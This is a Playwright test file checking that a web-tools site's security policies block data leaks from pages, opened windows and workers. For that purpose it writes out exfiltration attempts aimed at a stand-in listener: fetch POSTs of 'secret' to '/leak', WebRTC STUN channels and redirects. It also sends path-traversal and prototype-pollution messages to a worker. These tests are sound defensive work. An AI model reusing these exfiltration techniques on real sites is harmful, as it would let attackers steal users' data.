import { readdir } from 'node:fs/promises';
import { expect, type Page, type Worker } from '@playwright/test';
import { workerPolicies } from '#policies.ts';
import { byLeaving, fromPages, fromWorkers, openToOwnServer } from '#proof/ways-out.ts';
import { addFiles, finished, fixture, openTool, pressRun, runOn } from '../browser/tool-page.ts';
import { addressOf, leaveBy, leaveByAll, pause, test, tryAll, type Servers } from './attack.ts';
import { withIdleThreads } from './idle-threads.ts';
import { listen, type Listener } from './listener.ts';
import { atNight, everything, nightly } from '../nightly.ts';

const waysHeard = ({ heard }: Listener) =>
  new Set(heard.map((line) => new URLSearchParams(line.split('?')[1]).get('name') ?? line));

/** Ways that cause no request, but a connection, a datagram, or nothing at all here. */
const withoutRequest = [
  // HTTP/3, which uses datagrams.
  'WebTransport',
  'looking a name up',
  'connecting ahead',
  'WebRTC, to look for a path',
  'WebRTC, through a relay',
  'WebRTC, straight to a peer',
  // Scripts of other hosts cannot become either.
  'worker',
  'shared worker',
  'service worker',
  // Refused before the request: the document's own type forbids both.
  'manifest',
];

test.describe('without a policy', () => {
  // Headless Chromium does not always request icons.
  test(
    'every one of these ways is open: the tests below can fail',
    { tag: ['@whole-browser', nightly.tag] },
    async ({ page }) => {
      // A separate listener, so that late arrivals are not attributed to another test.
      const foreign = await listen();
      const unguarded = await listen();
      await page.goto(unguarded.origin);
      await tryAll(page, fromPages, foreign.origin);
      const requests = Object.keys(fromPages).filter((name) => !withoutRequest.includes(name));
      await expect.poll(() => requests.filter((name) => !waysHeard(foreign).has(name))).toEqual([]);

      for (const name of ['WebTransport', 'WebRTC, to look for a path', 'WebRTC, straight to a peer'] as const) {
        foreign.heard.length = 0;
        await tryAll(page, { [name]: fromPages[name] }, foreign.origin);
        await expect.poll(() => foreign.heard, name).toContain('datagram');
      }
      foreign.heard.length = 0;
      await tryAll(page, { relay: fromPages['WebRTC, through a relay'] }, foreign.origin);
      await expect.poll(() => foreign.heard).toContain('connection');

      for (const [name, attempt] of Object.entries(byLeaving)) {
        await leaveBy(page.context(), unguarded.origin, attempt, addressOf(name, foreign.origin));
      }
      // The browser builds its own address from the fields of a form.
      const left = Object.keys(byLeaving).filter((name) => name !== 'a form’s fields in an address');
      await expect.poll(() => left.filter((name) => !waysHeard(foreign).has(name))).toEqual([]);
      await expect.poll(() => foreign.heard).toContain('GET /leak?leak=secret');

      // Attempts in the first page continue in it.
      const another = await page.context().newPage();
      await another.goto(unguarded.origin);
      const starting = another.waitForEvent('worker');
      await another.evaluate(() => void new Worker(URL.createObjectURL(new Blob(['']))));
      foreign.heard.length = 0;
      await tryAll(await starting, fromWorkers, foreign.origin);
      const workerRequests = Object.keys(fromWorkers).filter((name) => !withoutRequest.includes(name));
      await expect.poll(() => workerRequests.filter((name) => !waysHeard(foreign).has(name))).toEqual([]);
      await Promise.all([unguarded.close(), foreign.close()]);
    },
  );
});

/** A page for each policy: taking files, using the microphone, and sending. */
const kinds = ['/compress-image', ...atNight(['/contact', '/record-audio'])];

const built = async () => {
  const files = await readdir('dist', { recursive: true });
  return files.filter((file) => file.endsWith('.html')).map((file) => `/${file.replace(/(?:index)?\.html$/, '')}`);
};
/** At night, every page of the built site, which takes half an hour, and the answer for missing pages. */
const pages = everything ? [...(await built()), '/no/such/page'] : kinds;

/** The page that is attacked in the full browser rather than headless Chromium. */
const inWhole = (path: string) => (path === '/compress-image' ? { tag: '@whole-browser' } : {});

for (const path of pages) {
  test(`nothing gets from ${path} to another host`, inWhole(path), async ({ page, foreign }) => {
    await page.goto(path);
    await tryAll(page, fromPages, foreign.origin);
    expect(foreign.heard).toEqual([]);
    await leaveByAll(page.context(), path, byLeaving, foreign.origin);
    expect(foreign.heard).toEqual([]);
  });
}

/** One of them sends, and one polls: only the site. */
const silent = pages.filter((path) => path !== '/contact' && path !== '/status');

for (const path of silent) {
  const title = `nothing but plain requests for what the site has gets from ${path} to the site`;
  test(title, nightly, async ({ page, own }) => {
    await page.goto(path);
    await tryAll(page, fromPages, own.origin, '/contact');
    await leaveByAll(page.context(), path, byLeaving, own.origin, '/contact');
    const lineOf = (name: string) => `GET /contact?${new URLSearchParams({ name })}`;
    const open = openToOwnServer.map(lineOf);
    expect(own.carried().filter((line) => !open.includes(line))).toEqual([]);
    // No policy applies to downloads from the page's own host, as the privacy page says. On a page that stays open: one
    // that is closed at once may not have made the request yet.
    for (const name of openToOwnServer) {
      await page.evaluate(byLeaving[name] as (address: string) => undefined, addressOf(name, own.origin, '/contact'));
      await expect.poll(() => own.carried()).toContain(lineOf(name));
    }
  });
}

/** Documents of the site that a tool's page could open to use their permissions, each in its own window. */
const openable = [
  '/contact',
  // With the same policies as that, or as the page itself.
  ...atNight([
    '/status',
    '/',
    '/robots.txt',
    '/api/health',
    '/no/such/page',
    '/favicon.svg',
    '/rss.xml',
    '/openapi.json',
  ]),
];

for (const path of openable) {
  test(`a page with tools finds no way out in a window with ${path}`, async ({ page, foreign, own }) => {
    await page.goto('/compress-image');
    own.asked.length = 0;
    const attacking = page.evaluate(
      async ({ path, foreign, own }) => {
        const opened = window.open(path);
        // As soon as it has loaded, and while it is still the initial empty document.
        for (let turn = 0; turn < 10; turn++) {
          await new Promise((resolve) => setTimeout(resolve, 100));
          try {
            const send = { method: 'POST', body: 'secret', mode: 'no-cors' } as const;
            void opened?.fetch(`${foreign}/leak?opened`, send).catch(() => undefined);
            void opened?.fetch(`${own}/api/contact`, send).catch(() => undefined);
            const Peer = (opened as (Window & typeof globalThis) | null)?.RTCPeerConnection;
            const peer = Peer && new Peer({ iceServers: [{ urls: `stun:${new URL(foreign).host}` }] });
            peer?.createDataChannel('leak');
            void peer?.createOffer().then((offer) => peer.setLocalDescription(offer));
            if (opened) opened.location.href = `${foreign}/leak?led-on`;
          } catch {
            // It is out of reach.
          }
        }
      },
      { path, foreign: foreign.origin, own: own.origin },
    );
    // Chromium kills a page that keeps trying forbidden WebRTC, so its answer may never come.
    const ended = attacking.catch((error: unknown) => expect(String(error)).toContain('crashed'));
    await Promise.race([ended, pause(5000)]);
    expect(foreign.heard).toEqual([]);
    expect(own.carried()).toEqual([]);
  });
}

const giveTo = (slug: string, file: string) => async (page: Page) => {
  await openTool(page, slug);
  await addFiles(page, [fixture(file)]);
};
const giveToImages = async (page: Page) => {
  await giveTo('compress-image', 'photos/coffee.jpg')(page);
  await pressRun(page);
};

/** How to start a worker, by the folder of its script. */
const workers = {
  'image.worker': giveToImages,
  'media.worker': giveTo('convert-audio', 'media/tone.wav'),
  'pdf.worker': giveTo('merge-pdf', 'pdf/plain.pdf'),
  'ocr.worker': async (page: Page) => {
    await giveTo('image-to-text', 'images/scan.png')(page);
    await pressRun(page);
  },
  'asset.worker': giveToImages,
  'vips-es6': giveToImages,
  'proof.worker': async (page: Page) => {
    await page.goto('/proof');
    await page.locator('.sample').click();
    await page.locator('.run').click();
    await expect(page.locator('leak-trial')).toHaveAttribute('data-verdict', /./);
  },
};
type Kind = keyof typeof workers;

test('every kind of worker is attacked', () => {
  expect(Object.keys(workers).toSorted()).toEqual(Object.keys(workerPolicies).toSorted());
});

/** Makes a page start a worker, and waits until it is idle enough for an attack. */
async function startOf(kind: Kind, page: Page): Promise<Worker> {
  const starting = page.waitForEvent('worker', (worker) => worker.url().includes(`/${kind}/`));
  await workers[kind](page);
  const worker = await starting;
  if (kind === 'image.worker') await finished(page);
  return worker;
}

async function attackFromWithin(kind: Kind, { page, foreign, own }: Servers & { page: Page }) {
  const worker = await startOf(kind, page);
  const whereItRuns = () => worker.evaluate(() => self.location.pathname);
  expect(await whereItRuns()).toContain(kind);
  await tryAll(worker, fromWorkers, foreign.origin);
  // It was not terminated in the meantime, which would have stopped the attack.
  expect(await whereItRuns()).toContain(kind);
  expect(foreign.heard).toEqual([]);
  own.asked.length = 0;
  const script = new URL(worker.url()).pathname;
  const otherwise = script.replace('_', '%5F');
  for (const target of ['/robots.txt', script, otherwise]) await tryAll(worker, fromWorkers, own.origin, target);
  expect(await whereItRuns()).toContain(kind);
  // One fetches for the others, and receives only names: it could post to this site, but has nothing to post.
  const posted = own.carried().filter((line) => kind !== 'asset.worker' || !line.startsWith('POST /_astro/'));
  expect(posted).toEqual([]);
}

/** The one that fetches for the others, and one of those that cannot connect. At night, all are attacked. */
const alwaysAttacked: readonly Kind[] = ['pdf.worker'];
for (const kind of Object.keys(workers) as Kind[]) {
  const attack = kind === 'vips-es6' ? withIdleThreads : test;
  attack(
    `nothing gets from within ${kind} to any host`,
    alwaysAttacked.includes(kind) ? {} : nightly,
    ({ page, foreign, own }) => attackFromWithin(kind, { page, foreign, own }),
  );
}

withIdleThreads.describe('without policies', () => {
  withIdleThreads.use({ policies: 'none' });
  withIdleThreads(
    'the threads of libvips have ways out: the test of them can fail',
    nightly,
    async ({ page, foreign }) => {
      const thread = await startOf('vips-es6', page);
      await tryAll(thread, fromWorkers, foreign.origin);
      const requests = Object.keys(fromWorkers).filter((name) => !withoutRequest.includes(name));
      await expect.poll(() => requests.filter((name) => !waysHeard(foreign).has(name))).toEqual([]);
    },
  );
});

test('the worker that connects asks for nothing but what its table names, whatever it is sent', async ({
  page,
  foreign,
  own,
}) => {
  const starting = page.waitForEvent('worker', (worker) => worker.url().includes('/asset.worker/'));
  await runOn(page, 'compress-image', [fixture('photos/coffee.jpg')]);
  own.asked.length = 0;
  const hostile = [
    '/robots.txt',
    '../robots.txt',
    foreign.origin,
    '__proto__',
    'constructor',
    { url: foreign.origin },
    7,
    null,
  ];
  await (
    await starting
  ).evaluate((messages) => {
    for (const name of messages) self.dispatchEvent(new MessageEvent('message', { data: { id: 1, name } }));
  }, hostile);
  await pause(1000);
  expect(own.asked).toEqual([]);
  expect(foreign.heard).toEqual([]);
});
